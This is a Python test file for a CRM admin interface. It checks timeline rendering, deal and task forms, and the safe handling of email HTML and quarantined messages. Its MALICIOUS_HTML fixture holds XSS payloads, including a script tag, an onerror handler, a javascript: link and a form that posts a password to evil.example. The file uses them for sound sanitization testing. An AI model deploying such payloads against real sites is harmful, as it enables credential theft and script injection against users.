"""Record pages: the timeline shows what the sync logged, email HTML stays inert, the page's forms work."""

from __future__ import annotations

import re

from sqlalchemy import select

from models.messages import Attachment
from models.schema import Activity, ActivityKind, DealStageChange, QuarantinedMessage, Role, Task
from tests.admin.conftest import fresh, sqlite_only
from tests.fixtures.factories import NOW, stage_named

MALICIOUS_HTML = (
    "<p>Hi there</p><script>window.__pwned=1</script>"
    '<img src="x" onerror="window.__pwned=2">'
    '<a href="javascript:window.__pwned=3">click me</a>'
    '<form action="https://evil.example/steal"><input name="password"></form>'
    "<style>body{background:url(https://evil.example/track.png)}</style>"
    '<div style="position:fixed;top:0">overlay</div>'
)


def test_contact_timeline_shows_the_email_and_the_mailboxes_that_saw_it(
    app, session, make_user, make_contact, make_email, login
):
    contact = make_contact("Jane Buyer", email="jane@client.example")
    make_email(
        "jane@client.example",
        subject="Pricing for 50 seats",
        text="Could you send the quote by Friday?",
        mailboxes=("sales", "ceo"),
        attachments=(Attachment("quote.pdf", "application/pdf", 4, b"%PDF"),),
    )
    browser = login(make_user(role=Role.REP))
    page = browser.get(f"/admin/records/contact/{contact.id}").text
    assert "Pricing for 50 seats" in page
    assert "Could you send the quote by Friday?" in page
    assert "ceo / INBOX" in page and "sales / INBOX" in page
    assert "quote.pdf" in page and "application/pdf, 4 bytes" in page
    link = re.search(r'href="(/admin/records/attachment/\d+)"', page)
    assert link
    download = browser.get(link.group(1))
    assert download.data == b"%PDF"
    assert download.headers["Content-Type"] == "application/octet-stream"
    assert download.headers["Content-Disposition"].startswith("attachment")


@sqlite_only
def test_malicious_email_html_is_never_sent_unsanitized(
    app, session, make_user, make_contact, make_email, login
):
    contact = make_contact("Mallory", email="mallory@evil.example")
    activity = make_email("mallory@evil.example", subject="Invoice", text="see attached", html=MALICIOUS_HTML)
    browser = login(make_user(role=Role.REP))
    responses = [
        browser.get(f"/admin/records/contact/{contact.id}"),
        browser.get(f"/admin/records/contact/{contact.id}?open={activity.id}"),
        browser.get(f"/admin/records/company/{contact.company_id}?open={activity.id}")
        if contact.company_id
        else None,
        browser.get("/admin/activity/"),
        browser.get("/admin/activity/export/csv/"),
    ]
    for response in filter(None, responses):
        assert response.status_code == 200
        body = response.get_data(as_text=True)
        for bad in (
            "__pwned",
            "onerror",
            "javascript:window",
            "evil.example/steal",
            "track.png",
            "<script>window",
        ):
            assert bad not in body, (response.request.path, bad)
    opened = responses[1].text
    frames = re.findall(r"<iframe[^>]*>", opened)
    assert len(frames) == 1
    assert (
        'sandbox=""' in frames[0]
        and "allow-scripts" not in frames[0]
        and "allow-same-origin" not in frames[0]
    )
    assert "Hi there" in frames[0] and "click me" in frames[0]


def test_logging_a_call_and_completing_a_task_show_on_the_timeline(app, session, make_user, make_deal, login):
    rep = make_user(role=Role.REP, name="Rita Rep")
    deal = make_deal(title="Acme pilot", owner=rep)
    browser = login(rep)
    logged = browser.post(
        f"/admin/records/deal/{deal.id}/log",
        {
            "kind": "call",
            "subject": "Discovery call",
            "body": "Budget approved",
            "occurred_at": "2026-11-20T10:30",
        },
    )
    assert logged.status_code == 302
    browser.post(
        f"/admin/records/deal/{deal.id}/task", {"title": "Send proposal", "due_at": "2026-11-25T09:00"}
    )
    task = session.scalar(select(Task).where(Task.deal_id == deal.id))
    assert task is not None and task.assignee_id == rep.id
    assert browser.post(f"/admin/records/task/{task.id}/complete").status_code == 302
    page = browser.get(f"/admin/records/deal/{deal.id}").text
    done_at = page.index("Task done: Send proposal")
    assert done_at < page.index("Discovery call")  # newest first
    assert "Budget approved" in page and "Rita Rep" in page
    fresh(session)
    kinds = session.scalars(select(Activity.kind).where(Activity.deal_id == deal.id)).all()
    assert sorted(kinds) == sorted([ActivityKind.CALL, ActivityKind.TASK])


def test_moving_a_deal_on_its_page_records_history_and_lost_reason(app, session, make_user, make_deal, login):
    manager = make_user(role=Role.MANAGER, name="Max Manager")
    deal = make_deal(title="Globex", owner=make_user(role=Role.REP))
    browser = login(manager)
    lost = stage_named(session, "Lost")
    response = browser.post(
        f"/admin/records/deal/{deal.id}/move", {"stage_id": lost.id, "lost_reason": "Budget cut"}
    )
    assert response.status_code == 302
    page = browser.get(f"/admin/records/deal/{deal.id}").text
    history = page[page.index('id="stage-history"') :]
    assert re.search(r"<td>Qualified</td><td>Lost</td><td>Max Manager</td>", history)
    assert "Budget cut" in page
    fresh(session)
    changes = session.scalars(select(DealStageChange).where(DealStageChange.deal_id == deal.id)).all()
    assert [c.changed_by_id for c in changes] == [None, manager.id]


@sqlite_only
def test_email_waiting_for_review_is_linked_to_the_chosen_deal(
    app, session, make_user, make_contact, make_deal, make_email, login
):
    contact = make_contact("Bob", email="bob@client.example")
    first = make_deal(title="Renewal", contacts=[contact])
    second = make_deal(title="Upsell", contacts=[contact])
    email = make_email("bob@client.example", subject="Which one?")
    assert email.needs_deal_review and email.deal_id is None
    admin = login(make_user(role=Role.ADMIN))
    status = admin.get("/admin/sync/").text
    assert "Which one?" in status and f"/admin/records/email/{email.id}/link" in status
    form = admin.get(f"/admin/records/email/{email.id}/link").text
    assert "Renewal" in form and "Upsell" in form
    done = admin.post(f"/admin/records/email/{email.id}/link", {"deal_id": second.id})
    assert done.status_code == 302 and done.headers["Location"] == f"/admin/records/deal/{second.id}"
    fresh(session)
    linked = session.get(Activity, email.id)
    assert (linked.deal_id, linked.needs_deal_review) == (second.id, False)
    assert "Which one?" in admin.get(f"/admin/records/deal/{second.id}").text
    assert first.id != second.id


@sqlite_only
def test_quarantined_message_downloads_as_raw_bytes_never_rendered(app, session, make_user, login):
    raw = b"Subject: broken\r\n\r\n<script>alert(1)</script>"
    session.add(
        QuarantinedMessage(
            mailbox="sales",
            folder="INBOX",
            uidvalidity=1,
            uid=7,
            message_id="<bad@x>",
            reason="MIME parse error",
            raw=raw,
            attempts=3,
            created_at=NOW,
            last_attempt_at=NOW,
        )
    )
    session.commit()
    admin = login(make_user(role=Role.ADMIN))
    page = admin.get("/admin/sync/").text
    assert "MIME parse error" in page and "&lt;bad@x&gt;" in page and "<script>alert" not in page
    row = session.scalar(select(QuarantinedMessage))
    download = admin.get(f"/admin/sync/quarantine/{row.id}.eml")
    assert download.data == raw
    assert download.headers["Content-Type"] == "application/octet-stream"
    assert download.headers["Content-Disposition"] == f"attachment; filename=quarantine-{row.id}.eml"


@sqlite_only
def test_links_in_alert_digests_open_the_deal_and_contact_pages(
    app, session, make_user, make_deal, make_contact, login
):
    from daemon.alerts import contact_url, deal_url

    owner = make_user(role="rep")
    deal = make_deal(title="Acme renewal", owner=owner)
    contact = make_contact(name="Lena Lead", owner=owner)
    browser = login(owner)
    deal_page = browser.get(deal_url("", deal.id))
    contact_page = browser.get(contact_url("", contact.id))
    assert deal_page.status_code == 200 and "Acme renewal" in deal_page.text
    assert contact_page.status_code == 200 and "Lena Lead" in contact_page.text
